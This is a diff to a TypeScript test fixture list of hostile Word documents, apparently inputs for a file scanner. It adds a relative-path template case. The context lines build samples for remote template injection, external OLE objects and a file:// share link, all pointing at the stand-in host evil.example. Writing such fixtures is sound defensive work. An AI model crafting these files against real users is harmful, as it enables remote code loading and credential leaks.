@@ -214,6 +214,7 @@ export const hostileDocx: readonly HostileFile[] = [
   { name: 'template-broken.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} TargetMode="External">`) },
   { name: 'template-large-name.docx', bytes: docx({ 'word/_rels/SETTINGS.XML.RELS': relation('attachedTemplate', 'http://evil.example/t.dotm') }) },
   { name: 'template-inside.docx', bytes: settings(relation('attachedTemplate', 'http://evil.example/t.dotm', 'TargetMode="Internal"')) },
+  { name: 'template-relative.docx', bytes: settings(relation('attachedTemplate', 't.dotm', '')) },
   { name: 'hyperlink-like.docx', bytes: settings(`<Relationships ${relations}><Relationship ${template} Note="/hyperlink" TargetMode="External"/></Relationships>`) },
   { name: 'link-to-share.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'file://evil.example/share') }) },
   { name: 'frame.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('oleObject', 'http://evil.example/o') }) },
